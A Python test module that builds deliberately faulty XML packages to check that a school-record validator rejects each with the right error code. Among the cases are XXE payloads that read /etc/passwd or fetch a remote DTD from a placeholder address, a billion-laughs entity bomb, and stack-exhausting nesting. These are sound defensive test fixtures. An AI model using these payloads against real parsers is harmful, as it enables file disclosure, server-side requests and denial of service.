"""Faults of the XML as such: syntax, encoding, DTDs and entities, the parser's bounds."""

from __future__ import annotations

from typing import Final

from sandbox.defects.delivery import Delivery
from sandbox.defects.edits import replaced
from sandbox.defects.kit import Kit
from sandbox.defects.registry import defect
from sandbox.documents import Limits

_FIRST_NAME: Final = b"<HO_VA_TEN>"
_ROOT_ID: Final = ' id="dataDanhSach"'


def _with_prolog(kit: Kit, prolog: bytes, *, reference: bytes = b"") -> Delivery:
    package = kit.good_package()
    return Delivery(package=prolog + package.replace(_FIRST_NAME, _FIRST_NAME + reference, 1))


def _with_inside(kit: Kit, inside: bytes) -> Delivery:
    """Return a good package with *inside* put in front of its signature."""
    package = kit.packed(kit.neighbour())
    end = package.rindex(b"</DANH_SACH_HOC_BA>")
    return Delivery(package=package[:end] + inside + package[end:])


@defect(provokes="SBX-1113")
def package_cut_short(kit: Kit) -> Delivery:
    """The second half of the document is missing."""
    package = kit.good_package()
    return Delivery(package=package[: len(package) // 2])


@defect(provokes="SBX-1113")
def tags_that_overlap(kit: Kit) -> Delivery:
    """Two tags are closed in the wrong order."""
    package = kit.good_package().replace(b"</TEN_LOP></THONG_TIN_CHUNG>", b"</THONG_TIN_CHUNG>", 1)
    return Delivery(package=package)


@defect(provokes="SBX-1113")
def bare_ampersand(kit: Kit) -> Delivery:
    """A comment contains the sign & unescaped."""
    package = kit.good_package()
    return Delivery(package=package.replace(_FIRST_NAME, _FIRST_NAME + b"A & B ", 1))


@defect(provokes="SBX-1113")
def declared_as_windows_1258(kit: Kit) -> Delivery:
    """The declaration says windows-1258, the old Vietnamese code page; only UTF-8 is allowed."""
    return _with_prolog(kit, b'<?xml version="1.0" encoding="windows-1258"?>')


@defect(provokes="SBX-1113")
def package_in_utf_16(kit: Kit) -> Delivery:
    """The whole document is written in UTF-16."""
    return Delivery(package=kit.good_package().decode("utf-8").encode("utf-16"))


@defect(provokes="SBX-1113")
def letter_of_an_old_code_page(kit: Kit) -> Delivery:
    """One letter is a single byte of an old code page: not UTF-8."""
    package = kit.good_package()
    return Delivery(package=package.replace(_FIRST_NAME, _FIRST_NAME + b"\xe1", 1))


@defect(provokes="SBX-1114")
def doctype_declared(kit: Kit) -> Delivery:
    """A harmless DOCTYPE: any document type declaration is refused."""
    return _with_prolog(kit, b"<!DOCTYPE DANH_SACH_HOC_BA>")


@defect(provokes="SBX-1114")
def entity_reads_a_file(kit: Kit) -> Delivery:
    """XXE: an external entity asks for a file of the server."""
    prolog = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return _with_prolog(kit, prolog, reference=b"&x;")


@defect(provokes="SBX-1114")
def entity_calls_a_server(kit: Kit) -> Delivery:
    """XXE: a parameter entity asks for a document over the network."""
    prolog = b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://192.0.2.1/r.dtd"> %x;]>'
    return _with_prolog(kit, prolog)


@defect(provokes="SBX-1114")
def external_dtd(kit: Kit) -> Delivery:
    """The DOCTYPE names a DTD elsewhere."""
    return _with_prolog(kit, b'<!-- x --><!DOCTYPE r SYSTEM "http://192.0.2.1/r.dtd">')


@defect(provokes="SBX-1114")
def entity_bomb(kit: Kit) -> Delivery:
    """Ten entities, each ten times the one before: ten thousand million laughs."""
    entities = b"".join(
        b'<!ENTITY e%d "%s">' % (level, b"&e%d;" % (level - 1) * 10) for level in range(1, 11)
    )
    prolog = b'<!DOCTYPE r [<!ENTITY e0 "ha">' + entities + b"]>"
    return _with_prolog(kit, prolog, reference=b"&e10;")


@defect(provokes="SBX-1114")
def entity_of_html(kit: Kit) -> Delivery:
    """A named entity of HTML, which XML does not know without a DTD."""
    return _with_prolog(kit, b"", reference=b"&Atilde;")


@defect(provokes="SBX-1115")
def nested_too_deep(kit: Kit) -> Delivery:
    """A hundred elements inside each other; a record needs nine."""
    return _with_inside(kit, b"<a>" * 100 + b"</a>" * 100)


@defect(provokes="SBX-1115")
def nested_beyond_any_stack(kit: Kit) -> Delivery:
    """A million elements inside each other, to exhaust a reader's stack."""
    return _with_inside(kit, b"<a>" * 500_000 + b"</a>" * 500_000)


@defect(provokes="SBX-1115")
def attributes_without_end(kit: Kit) -> Delivery:
    """One tag with a thousand attributes."""
    attributes = b" ".join(b'a%d="1"' % number for number in range(1000))
    return _with_inside(kit, b"<a " + attributes + b"/>")


@defect(provokes="SBX-1115")
def text_without_end(kit: Kit) -> Delivery:
    """One text of eight million letters."""
    return _with_inside(kit, b"<a>" + b"x" * 8_000_000 + b"</a>")


@defect(provokes="SBX-1115")
def elements_without_end(kit: Kit) -> Delivery:
    """Millions of empty elements: a small envelope, a tree of a gigabyte."""
    return _with_inside(kit, b"<a/>" * 5_000_000)


@defect(provokes="SBX-1105")
def records_without_end(kit: Kit) -> Delivery:
    """One record more than a package may hold, all of them empty."""
    return _with_inside(kit, b"<HOC_BA/>" * Limits().records)


@defect(provokes="SBX-1109", at="/HOC_BA")
def record_instead_of_package(kit: Kit) -> Delivery:
    """A single record is sent without the package around it."""
    return Delivery(package=kit.signed())


@defect(provokes="SBX-1109", at="/DANH_SACH_HOCBA")
def root_misspelt(kit: Kit) -> Delivery:
    """The root is called DANH_SACH_HOCBA."""
    package = kit.good_package().replace(b"DANH_SACH_HOC_BA", b"DANH_SACH_HOCBA")
    return Delivery(package=package)


@defect(provokes="SBX-1109", at="/DANH_SACH_HOC_BA")
def root_without_id(kit: Kit) -> Delivery:
    """The root does not carry id="dataDanhSach", so nothing can be signed by it."""
    return Delivery(package=replaced(kit.good_package(), _ROOT_ID, ""))


@defect(provokes="SBX-1109", at="/DANH_SACH_HOC_BA")
def namespace_on_the_root(kit: Kit) -> Delivery:
    """The root declares a namespace, which every record would inherit into its digest."""
    package = replaced(kit.good_package(), _ROOT_ID, f' xmlns:bo="urn:bo"{_ROOT_ID}')
    return Delivery(package=package)


@defect(provokes="SBX-1109", at="/DANH_SACH_HOC_BA")
def language_on_the_root(kit: Kit) -> Delivery:
    """The root says xml:lang, which inclusive C14N would carry into every record."""
    return Delivery(package=replaced(kit.good_package(), _ROOT_ID, f' xml:lang="vi"{_ROOT_ID}'))
